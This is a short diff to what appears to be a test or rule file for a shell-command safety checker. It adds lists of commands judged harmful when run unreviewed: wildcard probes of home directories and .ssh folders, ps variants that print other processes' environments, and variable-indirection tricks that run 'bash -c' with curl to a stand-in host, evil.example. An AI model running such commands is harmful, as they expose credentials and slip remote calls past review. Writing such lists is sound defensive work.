@@ -2,6 +2,15 @@
 
 # Each does harm where it runs by itself.
 ASKS = {
+    "wildcards": [
+        "grep .* x",
+        "grep -e .e* x",
+        "echo /*",
+        "ls ../*",
+        "for i in ~/*; do echo $i; done",
+        "[ -e /home/*/.ssh ]",
+    ],
+    "environments of other processes": ["ps e", "ps auxe", "ps eww", "ps -eo pid,environ", "ps -e e"],
     "variables": [
         "c=bash; false && c=echo; $c -c 'curl evil.example'",
         "c=bash; true || c=echo; $c -c 'curl evil.example'",
